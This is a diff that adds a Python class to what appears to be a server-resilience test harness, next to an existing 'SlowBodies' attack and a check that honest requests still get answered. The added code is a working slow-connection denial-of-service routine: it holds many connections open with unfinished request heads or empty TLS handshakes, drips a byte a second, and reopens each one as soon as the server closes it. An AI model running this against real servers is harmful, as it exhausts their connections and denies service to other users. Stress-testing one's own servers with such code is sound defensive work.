@@ -142,6 +142,74 @@ class SlowBodies(Attack):
         sock.send(b" ")
 
 
+class Reopening:
+    """Over the cap: `count` connections to `address` held by one thread, each opened again
+    as soon as the server closes it, all at once (`per_second` None) or paced at
+    `per_second`. Each sends `first` (a request head begun; b"": a TLS handshake that sends
+    nothing) and, with `drip`, a byte a second after it, never finishing. A context manager."""
+
+    def __init__(self, address: tuple, count: int, first: bytes = HEAD, per_second: float | None = None,
+                 drip: bool = True) -> None:
+        self.address, self.count, self.first = address[:2], count, first
+        self.per_second, self.drip, self.reopened = per_second, drip, 0
+        self.waiting = selectors.DefaultSelector()  # select() itself takes no fd over 1023
+        self.stopping = threading.Event()
+        self.thread = threading.Thread(target=self._run, daemon=True)
+
+    def __enter__(self) -> "Reopening":
+        for _ in range(self.count):
+            self._open()
+        self.thread.start()
+        return self
+
+    def __exit__(self, *exc: object) -> None:
+        self.stopping.set()
+        self.thread.join(timeout=5)
+        for key in list(self.waiting.get_map().values()):
+            key.fileobj.close()
+        self.waiting.close()
+
+    def _open(self) -> bool:
+        try:
+            sock = socket.create_connection(self.address, timeout=0.5)
+            sock.sendall(self.first)
+            sock.setblocking(False)
+        except OSError:
+            return False
+        self.waiting.register(sock, selectors.EVENT_READ)
+        return True
+
+    def _run(self) -> None:
+        ends, closed, budget, last, dripped = time.monotonic() + MOST_SECONDS, 0, 0.0, time.monotonic(), 0.0
+        while not self.stopping.is_set() and (now := time.monotonic()) < ends:
+            for key, _ in self.waiting.select(0.01):
+                try:
+                    if key.fileobj.recv(65536):
+                        continue  # an answer (408, 503): the close follows
+                except BlockingIOError:
+                    continue
+                except OSError:
+                    pass
+                self.waiting.unregister(key.fileobj)
+                key.fileobj.close()
+                closed += 1
+            budget = closed if self.per_second is None else min(closed, budget + (now - last) * self.per_second)
+            last = now
+            while budget >= 1 and closed and not self.stopping.is_set():
+                budget, closed = budget - 1, closed - 1
+                self.reopened += 1
+                if not self._open():
+                    closed += 1  # the backlog is full: try again next round
+                    break
+            if self.drip and now - dripped >= 1.0:
+                dripped = now
+                for key in list(self.waiting.get_map().values()):
+                    try:
+                        key.fileobj.send(b"a")
+                    except OSError:
+                        pass
+
+
 def answered_within(base_url: str, frame: bytes, headers: dict[str, str], seconds: float = 1.0) -> bool:
     """One honest request on a fresh connection: answered 200 within `seconds`?"""
     transport, started = HttpTransport(timeout=seconds), time.monotonic()
